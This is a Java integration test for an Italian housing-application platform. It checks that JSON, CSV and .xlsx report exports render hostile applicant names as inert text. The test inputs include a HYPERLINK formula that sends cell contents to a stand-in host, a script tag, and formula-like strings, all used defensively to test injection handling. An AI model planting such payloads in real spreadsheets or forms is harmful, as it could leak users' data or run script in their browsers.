package it.piattaformacasa.report;

import static it.piattaformacasa.DemoUtenti.*;
import static org.assertj.core.api.Assertions.assertThat;

import java.io.ByteArrayInputStream;
import java.net.http.HttpClient;
import java.net.http.HttpResponse;
import java.util.List;

import org.apache.poi.ss.usermodel.Cell;
import org.apache.poi.ss.usermodel.CellType;
import org.apache.poi.ss.usermodel.Row;
import org.apache.poi.ss.usermodel.Sheet;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.camunda.bpm.engine.ManagementService;
import org.camunda.bpm.engine.RuntimeService;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestInstance;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.web.server.LocalServerPort;

import it.piattaformacasa.ClientHttp;
import it.piattaformacasa.IntegrationTest;
import it.piattaformacasa.ScenarioAvviso;
import it.piattaformacasa.anagrafe.Alloggio;
import it.piattaformacasa.anagrafe.AlloggioRepository;
import it.piattaformacasa.anagrafe.StatoAlloggio;

/**
 * Text that looks like markup or a formula may be stored as typed (a surname is what it is), but no download runs it:
 * JSON goes out as JSON, the CSV and .xlsx of the reports write it as text a spreadsheet will not evaluate.
 */
@IntegrationTest
@TestInstance(TestInstance.Lifecycle.PER_CLASS)
class EsportazioniSicureTest {

    private static final String FORMULA = "=HYPERLINK(\"http://esempio.invalid/?d=\"&A1;\"Apri\")";
    private static final String MARCATURA = "<script>alert('x')</script>";

    @LocalServerPort
    int port;
    @Autowired
    RuntimeService runtimeService;
    @Autowired
    ManagementService managementService;
    @Autowired
    AlloggioRepository alloggi;
    ClientHttp http;
    String report;

    @BeforeAll
    void unaDomandaConNomiOstili() {
        http = new ClientHttp(port);
        ScenarioAvviso scenario = new ScenarioAvviso(http, runtimeService, managementService, alloggi);
        Alloggio aler = scenario.alloggiDi(CF_ALER, StatoAlloggio.LIBERO, 1).get(0);
        long avviso = scenario.aperto(List.of(aler), List.of(ALER_AVVISO));
        String nome = FORMULA.replace("\"", "\\\"");
        ClientHttp.Risposta domanda = http.post("/api/avvisi/" + avviso + "/domande", CAPOFILA, """
                {"nucleo":[{"codiceFiscale":"RTOMRC80A15L682D","nome":"%s","cognome":"%s","dataNascita":"1980-01-15",
                  "relazione":"RICHIEDENTE","percentualeInvalidita":0},
                 {"codiceFiscale":"MNTSRA88P43L682V","nome":"@SOMMA(A1:A9)","cognome":"-2+3","dataNascita":"1988-09-03",
                  "relazione":"CONIUGE","percentualeInvalidita":0}],
                 "residenza":{"codiceIstatComune":"012133","residenteLombardiaDal":"2000-01-01","residenteComuneDal":"2005-01-01"},
                 "isee":{"valore":8000,"protocolloDsu":"+INPS-2026-1","dataDsu":"2026-01-20"},
                 "patrimonio":0,"condizioni":{"coabitazione":true},"alloggi":[%d]}""".formatted(nome, MARCATURA, aler.getId()));
        assertThat(domanda.status()).as("stored as typed: %s", domanda.body()).isEqualTo(201);
        report = "/api/avvisi/" + avviso + "/report/domande-in-avviso";
    }

    @Test
    void ilJsonRestaJsonConIlTestoComeScritto() {
        ClientHttp.Risposta json = http.get(report, SUPERVISORE);
        assertThat(json.raw().headers().firstValue("Content-Type")).hasValueSatisfying(t -> assertThat(t).startsWith("application/json"));
        assertThat(json.json().get("righe").get(0).get(1).asText()).isEqualTo(FORMULA);
        assertThat(json.json().get("righe").get(0).get(2).asText()).isEqualTo(MARCATURA);
    }

    @Test
    void ilCsvNeutralizzaLeFormule() {
        ClientHttp.Risposta csv = http.get(report + "?formato=csv", SUPERVISORE);
        assertThat(csv.status()).isEqualTo(200);
        String riga = csv.body().lines().skip(1).findFirst().orElseThrow();
        assertThat(riga).contains("\"'=HYPERLINK(\"\"http://esempio.invalid/?d=\"\"&A1;\"\"Apri\"\")\";" + MARCATURA + ";");
        assertThat(riga.split(";")[0]).as("the id stays a number").matches("\\d+");
    }

    @Test
    void lXlsxScriveLeFormuleComeTesto() throws Exception {
        HttpResponse<byte[]> xlsx = HttpClient.newHttpClient().send(http.richiesta(report + "?formato=xlsx", SUPERVISORE).GET()
                .build(), HttpResponse.BodyHandlers.ofByteArray());
        assertThat(xlsx.statusCode()).isEqualTo(200);
        try (XSSFWorkbook foglio = new XSSFWorkbook(new ByteArrayInputStream(xlsx.body()))) {
            Sheet sheet = foglio.getSheetAt(0);
            Row riga = sheet.getRow(1);
            Cell nome = riga.getCell(1);
            assertThat(nome.getCellType()).isEqualTo(CellType.STRING);
            assertThat(nome.getStringCellValue()).isEqualTo(FORMULA);
            assertThat(nome.getCellStyle().getQuotePrefixed()).isTrue();
            assertThat(riga.getCell(2).getStringCellValue()).isEqualTo(MARCATURA);
            assertThat(riga.getCell(2).getCellStyle().getQuotePrefixed()).isFalse();
            assertThat(riga.getCell(0).getCellType()).isEqualTo(CellType.NUMERIC);
        }
    }
}
